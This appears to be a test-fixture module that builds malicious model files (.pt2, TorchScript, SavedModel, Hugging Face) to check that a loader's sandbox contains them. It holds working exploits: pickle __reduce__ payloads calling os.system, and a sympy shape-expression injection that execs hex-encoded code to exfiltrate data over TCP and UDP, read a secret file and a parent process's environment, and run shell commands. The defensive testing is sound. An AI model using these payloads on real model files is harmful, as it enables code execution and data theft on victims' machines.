"""Model files that run code of their own when trtflow reads them, built for the tests (each as an attacker would).

Every attack tries to leave a file in an ``outside`` folder the test watches; the ``.pt2`` whose symbolic shape is
Python code also tries the network (TCP and UDP to the test's listeners), another process's environment and a
file beside the model, and writes what happened to ``attack_report.txt`` in its working folder (the child's box),
so a test sees that the code ran and what the kernel denied.
"""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
import zipfile
from pathlib import Path

import torch
from torch import nn

REPORT = "attack_report.txt"


class Mlp(nn.Module):
    def __init__(self) -> None:
        super().__init__()
        self.fc = nn.Linear(8, 4)

    def forward(self, features: torch.Tensor) -> torch.Tensor:
        return self.fc(features).relu()


_CLEAN_PT2: list[bytes] = []


def clean_pt2(path: Path) -> Path:
    """A small MLP's .pt2 program with a dynamic batch (exported once per process, then copied)."""
    if not _CLEAN_PT2:
        program = torch.export.export(Mlp().eval(), (torch.randn(2, 8),),
                                      dynamic_shapes=({0: torch.export.Dim("batch")},))
        torch.export.save(program, path)
        _CLEAN_PT2.append(path.read_bytes())
    else:
        path.write_bytes(_CLEAN_PT2[0])
    return path


class _Touch:
    """Unpickling this runs ``os.system("touch <target>")``."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self):
        return (os.system, (f"touch {self.target}",))


def _rewrite(source: Path, target: Path, change) -> Path:
    """A copy of the zip archive ``source`` with ``change(name, data) -> data`` applied to every member."""
    with zipfile.ZipFile(source) as src:
        members = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(target, "w") as out:
        for info, data in members:
            out.writestr(info, change(info.filename, data))
    return target


def pickled_weight_pt2(path: Path, marker: Path) -> Path:
    """A .pt2 whose fc.weight is stored as a pickle (``"use_pickle": true``) that creates ``marker`` when loaded."""
    clean = clean_pt2(path.with_name("clean-for-pickle.pt2"))
    payload = io.BytesIO()
    torch.save(_Touch(marker), payload)
    weight_file: list[str] = []

    def config(name: str, data: bytes) -> bytes:
        if name.endswith("data/weights/model_weights_config.json"):
            parsed = json.loads(data)
            parsed["config"]["fc.weight"]["use_pickle"] = True
            weight_file.append(parsed["config"]["fc.weight"]["path_name"])
            return json.dumps(parsed).encode()
        return data

    staged = _rewrite(clean, path.with_name("staged.pt2"), config)
    return _rewrite(staged, path, lambda name, data: payload.getvalue()
                    if name.endswith(f"data/weights/{weight_file[0]}") else data)


def pickled_sample_inputs_pt2(path: Path, marker: Path, protocol: int = 2) -> Path:
    """A .pt2 with no pickled weight, whose sample inputs are a pickle that creates ``marker`` (torch tries its
    weights-only unpickler, which refuses it, then unpickles it with everything allowed)."""
    clean = clean_pt2(path.with_name("clean-for-samples.pt2"))
    payload = io.BytesIO()
    torch.save(((_Touch(marker),), {}), payload, pickle_protocol=protocol)
    return _rewrite(clean, path, lambda name, data: payload.getvalue() if "data/sample_inputs/" in name else data)


def code_in_shapes_pt2(path: Path, outside: Path, tcp_port: int, udp_port: int, secret: Path) -> Path:
    """A .pt2 without any pickle whose symbolic batch size is a Python expression (torch parses it with sympy,
    which evaluates it): it tries to write into ``outside``, to reach the listeners, to read ``secret`` and its
    parent's environment, and reports each try in ``attack_report.txt`` in its working folder."""
    code = f"""
import os, socket
report = []
def attempt(name, action):
    try:
        action()
        report.append(name + ": done")
    except Exception as error:
        report.append(name + ": " + type(error).__name__ + ": " + str(error))
attempt("write", lambda: open({str(outside / 'shapes_pwned')!r}, "w").write("written by the model"))
attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {tcp_port}), timeout=5).sendall(b"stolen"))
attempt("udp", lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("127.0.0.1", {udp_port})))
attempt("secret", lambda: report.append("secret=" + open({str(secret)!r}).read()))
attempt("environ", lambda: report.append("environ=" + open("/proc/%d/environ" % os.getppid(), "rb").read()[:40].hex()))
attempt("shell", lambda: os.system("touch {outside / 'shell_pwned'}"))
open({REPORT!r}, "w").write(chr(10).join(report))
"""
    return code_in_shape_expression_pt2(path, code)


def code_in_shape_expression_pt2(path: Path, code: str) -> Path:
    """A .pt2 without any pickle whose first symbolic dimension's assumptions are a Python expression that runs
    ``code`` when torch loads the program."""
    # (sympy turns names it does not know into symbols; __import__ it leaves alone)
    expression = (f"[__import__('builtins').exec(__import__('binascii').unhexlify('{code.encode().hex()}'), {{}}), "
                  "True][1]")
    clean = clean_pt2(path.with_name("clean-for-shapes.pt2"))

    def poison(name: str, data: bytes) -> bytes:
        if not name.endswith("models/model.json"):
            return data
        text, count = re.subn(r"(Symbol\('\w+', )positive=True", lambda m: f"{m.group(1)}positive={expression}",
                              data.decode(), count=1)
        assert count == 1, "no symbolic dimension to poison"
        return text.encode()

    return _rewrite(clean, path, poison)


_TORCHSCRIPT = '''
import sys, torch
class Writer(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.fc = torch.nn.Linear(8, 4)
    def forward(self, features: torch.Tensor) -> torch.Tensor:
        mapped = torch.from_file(TARGET, shared=True, size=16)
        return self.fc(features).relu() + mapped.sum() * 0
torch.jit.save(torch.jit.script(Writer().eval()), sys.argv[1])
'''


def writing_torchscript(path: Path, marker: Path) -> Path:
    """A TorchScript archive whose forward maps ``marker`` with ``torch.from_file(..., shared=True)``: creating it
    (torch.jit.script needs the class in a file, so this runs in a child)."""
    source = path.with_suffix(".py")
    source.write_text(_TORCHSCRIPT.replace("TARGET", repr(str(marker))))
    subprocess.run([sys.executable, str(source), str(path)], check=True, capture_output=True, timeout=300)
    return path


_SAVED_MODEL = '''
import os, sys
os.environ["TF_CPP_MIN_LOG_LEVEL"] = "2"
import tensorflow as tf
class Writer(tf.Module):
    def __init__(self):
        super().__init__()
        self.w = tf.Variable(tf.ones([8, 3]))
    @tf.function(input_signature=[tf.TensorSpec([None, 8], tf.float32, name="features")])
    def serve(self, features):
        tf.io.write_file(TARGET, "written by the model")
        return {"scores": tf.matmul(features, self.w)}
module = Writer()
tf.saved_model.save(module, sys.argv[1], signatures={"serving_default": module.serve})
'''


def writing_saved_model(folder: Path, marker: Path) -> Path:
    """A SavedModel whose serving function calls ``tf.io.write_file(marker, ...)``."""
    source = folder.with_name("make_saved_model.py")
    source.write_text(_SAVED_MODEL.replace("TARGET", repr(str(marker))))
    subprocess.run([sys.executable, str(source), str(folder)], check=True, capture_output=True, timeout=600)
    return folder


def pickled_bin_huggingface(folder: Path, marker: Path) -> Path:
    """A Hugging Face folder whose ``pytorch_model.bin`` holds, beside the tensors, a pickle that creates
    ``marker`` (transformers reads it with torch's weights_only unpickler, which refuses it)."""
    import transformers

    config = transformers.BertConfig(vocab_size=50, hidden_size=16, num_hidden_layers=1, num_attention_heads=2,
                                     intermediate_size=32, max_position_embeddings=16, num_labels=2)
    model = transformers.BertForSequenceClassification(config)
    model.config.save_pretrained(folder)
    state = dict(model.state_dict())
    state["bert.embeddings.word_embeddings.weight"] = _Touch(marker)
    torch.save(state, folder / "pytorch_model.bin")
    return folder
